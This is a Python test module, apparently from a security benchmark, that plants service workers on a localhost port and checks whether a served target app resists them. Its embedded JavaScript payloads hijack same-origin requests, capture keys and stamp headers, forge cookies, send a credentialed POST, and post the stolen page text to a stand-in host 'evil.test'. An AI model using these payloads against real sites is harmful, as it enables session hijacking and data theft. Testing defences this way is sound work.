"""Service workers that another program left in the browser at the port at which the desk opens now."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from playwright.sync_api import BrowserContext

from benchmarks.proof.desk_attacker import attacker
from benchmarks.proof.desk_siege import Judged, profile
from benchmarks.proof.desk_target import Served, Target, served

WAITING = "lets the page pass and then asks"
"""The one that would see what the page asks with, did it still stand when the page has come."""

_COMMON = """
const tell = (what) => fetch(HOME + '/report?attack=left', {method: 'POST', mode: 'no-cors', body: String(what)}).catch(() => {});
const keys = [];
let stamp = 'guessed';
const spy = async () => {
  for (const url of ['/', '/sheet', ...keys.map((key) => '/?key=' + key)])
    try { const answer = await fetch(url, {credentials: 'include', headers: {'X-Roundup-Stamp': stamp}}); await tell(answer.status + ' ' + await answer.text()); } catch (error) { await tell(error); }
  try { await fetch('/do', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-Roundup-Stamp': stamp}, body: DEED}); } catch (error) { await tell(error); }
};
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  const url = new URL(event.request.url);
  if (url.origin !== location.origin) return;
  if (url.searchParams.get('key')) keys.push(url.searchParams.get('key'));
  stamp = event.request.headers.get('X-Roundup-Stamp') || url.searchParams.get('stamp') || stamp;
  ANSWER
  event.waitUntil(spy());
});
"""
_ANSWERS = {
    "passes everything on and listens": "event.respondWith(fetch(event.request).then(async (answer) => { await tell(await answer.clone().text()); return answer; }));",
    WAITING: "if (event.request.mode !== 'navigate') event.respondWith(fetch(event.request).then(async (answer) => { await tell(await answer.clone().text()); return answer; }));",
    "forges the page and a cookie": "if (event.request.mode === 'navigate') event.respondWith(new Response(`<!doctype html><script>for (const key of ${JSON.stringify(keys)}) document.cookie = 'roundup-' + location.port + '=' + key + '; path=/'; fetch('/sheet').then((a) => a.text()).then((text) => fetch('${HOME}/report?attack=left', {method: 'POST', mode: 'no-cors', body: text}));</script>`, {headers: {'Content-Type': 'text/html'}}));",
}
_REGISTERS = "<!doctype html><script>navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'left'; });</script>"


def leftovers(target: Target, *, guarded: bool, only: str = "") -> list[Judged]:
    """Open the desk where each kind of worker (``only``: one of them) waits; the owner opens the printed address twice."""
    return [_judge(target, what, answer, guarded=guarded) for what, answer in _ANSWERS.items() if only in ("", what)]


def _judge(target: Target, what: str, answer: str, *, guarded: bool) -> Judged:
    with attacker() as (home, collected), profile() as context:
        constants = f"const HOME = 'http://evil.test:{home}'; const DEED = {json.dumps(target.deed())};"
        port = _left(context, constants + _COMMON.replace("ANSWER", answer))
        with served(target, guarded=guarded, port=port) as desk:
            before = desk.digest()
            _open_twice(context, desk)
            return Judged(
                name=f"a service worker left at the port {what}",
                changed=desk.digest() != before,
                done=bool(desk.wire.done),
                read=bool(collected.holding(target.canary)),
                framed=False,
                shown=0,
                asked=len(desk.wire.asked),
            )


def _open_twice(context: BrowserContext, desk: Served) -> None:
    for _ in range(2):
        tab = context.new_page()
        tab.goto(desk.entry, wait_until="load")
        count = -1
        while count < len(desk.wire.asked):
            count = len(desk.wire.asked)
            tab.wait_for_timeout(400)


def _left(context: BrowserContext, script: str) -> int:
    """Serve a page that leaves a worker in the browser, and end; return the port."""
    with _serving({"/": ("text/html", _REGISTERS), "/worker.js": ("text/javascript", script)}) as port:
        tab = context.new_page()
        tab.goto(f"http://127.0.0.1:{port}/")
        tab.wait_for_function("document.title === 'left'")
        tab.close()
    return port


@contextmanager
def _serving(pages: dict[str, tuple[str, str]]) -> Iterator[int]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            kind, text = pages.get(self.path, ("text/plain", ""))
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(text.encode())))
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield int(server.server_address[1])
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)
